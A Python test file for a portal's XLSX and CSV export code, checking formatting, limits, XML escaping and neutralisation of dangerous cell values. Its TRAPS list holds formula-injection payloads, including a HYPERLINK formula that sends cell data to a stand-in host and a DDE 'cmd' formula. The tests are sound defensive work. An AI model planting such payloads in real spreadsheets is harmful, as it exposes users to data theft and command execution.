import io
from datetime import UTC, date, datetime, timedelta
from zipfile import ZipFile

import pytest

from owes_portal.spreadsheet import Column, Sheet, write_csv, write_xlsx
from tests.spreadsheets import read_csv, read_xlsx

CREATED = datetime(2026, 11, 21, 7, 40, tzinfo=UTC)
COLUMNS = [Column("Imię i nazwisko", 30), Column("Telefon", 16), Column("Liczba", 8)]
ROWS = [["Łucja Żak", "+48600123456", 3], ["Марія Шевченко", "", None]]
# What spreadsheet programs reckon, start or take for something else; all of it is only text here.
TRAPS = [
    "=1+1",
    '=HYPERLINK("http://zly.example/?"&A1)',
    "+48600123456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "﹢1",
    "'=1+1",
    " =1+1",
    "\u200b=1+1",
    "=cmd|' /C calc'!A0",
]


def xlsx(*sheets, **options):
    file = io.BytesIO()
    write_xlsx(file, sheets, created=CREATED, **options)
    return file.getvalue()


def table(rows, title="Osoby"):
    return Sheet(title, COLUMNS, rows)


def in_csv(rows):
    file = io.BytesIO()
    write_csv(file, ["A", "B"], rows)
    return file.getvalue()


def parts(content):
    with ZipFile(io.BytesIO(content)) as file:
        return {name: file.read(name).decode() for name in file.namelist()}


def test_xlsx_holds_what_was_written():
    read = read_xlsx(xlsx(table(iter(ROWS)), table([], "Pusta")))

    headings = ["Imię i nazwisko", "Telefon", "Liczba"]
    assert read == {
        "Osoby": [headings, ["Łucja Żak", "+48600123456", 3.0], ["Марія Шевченко"]],
        "Pusta": [headings],
    }


def test_xlsx_writes_days_and_moments_in_polish_time():
    days = [[date(2026, 11, 21), CREATED, None]]

    read = read_xlsx(xlsx(table(days)))["Osoby"][1]

    since = datetime(1899, 12, 30)
    assert [since + timedelta(read[0]), since + timedelta(minutes=round(read[1] * 24 * 60))] == [
        datetime(2026, 11, 21),
        datetime(2026, 11, 21, 8, 40),
    ]


def test_xlsx_holds_no_formula_and_no_link():
    content = xlsx(table([[trap] for trap in TRAPS]))

    sheet = parts(content)["xl/worksheets/sheet1.xml"]
    assert read_xlsx(content)["Osoby"][1:] == [[trap] for trap in TRAPS]
    assert ("<f>" in sheet, "hyperlink" in sheet) == (False, False)


@pytest.mark.parametrize(
    "text",
    [
        "<r></is></c><c r='B2'><f>1+1</f></c><c><is></r>",
        "<r></is></c><c r='B2'><f>1+1</f></c><c><is>" + "x" * 32_720 + "</r>" * 40,
    ],
    ids=["short", "cut"],
)
def test_xlsx_takes_no_text_for_xml(text):
    [[read]] = read_xlsx(xlsx(table([[text]])))["Osoby"][1:]

    assert read.strip().startswith("<r></is>")


def test_xlsx_keeps_letters_that_xml_does_not_know():
    [[read]] = read_xlsx(xlsx(table([["a\x01b & <c>"]])))["Osoby"][1:]

    assert read == "a\x01b & <c>"


def test_xlsx_of_the_same_moment_is_the_same_file():
    assert xlsx(table(ROWS)) == xlsx(table(iter(ROWS)))


def test_xlsx_head_stays_in_sight_and_filters():
    sheet = parts(xlsx(table(ROWS)))["xl/worksheets/sheet1.xml"]

    assert 'state="frozen"' in sheet
    assert '<autoFilter ref="A1:C3"/>' in sheet


def test_xlsx_takes_any_title():
    titles = list(read_xlsx(xlsx(table(ROWS, "'Lista: 1/2 [osoby?] " + "x" * 40))))

    assert titles == ["Lista  1 2  osoby   xxxxxxxxxx"]


def test_xlsx_refuses_more_rows_than_a_program_can_read(monkeypatch):
    monkeypatch.setattr("owes_portal.spreadsheet.ROWS_AT_MOST", 3)

    assert len(read_xlsx(xlsx(table([["a"]] * 2)))["Osoby"]) == 3
    with pytest.raises(OverflowError):
        xlsx(table([["a"]] * 3))


def test_xlsx_leaves_nothing_behind_when_it_fails(tmp_path):
    def breaking():
        yield ["Łucja Żak"]
        raise ValueError

    with pytest.raises(ValueError):
        xlsx(table(breaking()), folder=tmp_path)

    assert list(tmp_path.iterdir()) == []


def test_xlsx_lets_its_rows_wait_in_the_folder_that_it_is_told(tmp_path):
    seen = []

    def looking():
        seen.extend(tmp_path.glob("*/*"))
        yield ["Łucja Żak"]

    xlsx(table(looking()), folder=tmp_path)

    assert len(seen) == 1
    assert list(tmp_path.iterdir()) == []


def test_csv_opens_in_a_polish_spreadsheet_program():
    content = in_csv([["Łucja", 3], [None, date(2026, 11, 21)], [CREATED, "a;b\nc"]])

    assert (
        content
        == (
            '\ufeff"A";"B"\r\n"Łucja";"3"\r\n"";"2026-11-21"\r\n"2026-11-21 08:40";"a;b\nc"\r\n'
        ).encode()
    )


@pytest.mark.parametrize("trap", TRAPS, ids=ascii)
def test_csv_cells_are_harmless(trap):
    [_headings, [read, number]] = read_csv(in_csv([[trap, -5]]))

    assert (read, number) == (f"'{trap}", "-5")


@pytest.mark.parametrize("text", ["Łucja", "a=b", "3-4", "a@b.example", "–", "«=»", ""])
def test_csv_leaves_other_text_alone(text):
    [_headings, [read, _other]] = read_csv(in_csv([[text, None]]))

    assert read == text


def test_csv_cell_with_a_comma_begins_no_other_cell():
    content = in_csv([["Kowalska,=1+1", "x"]])

    assert b'"Kowalska,=1+1";"x"' in content
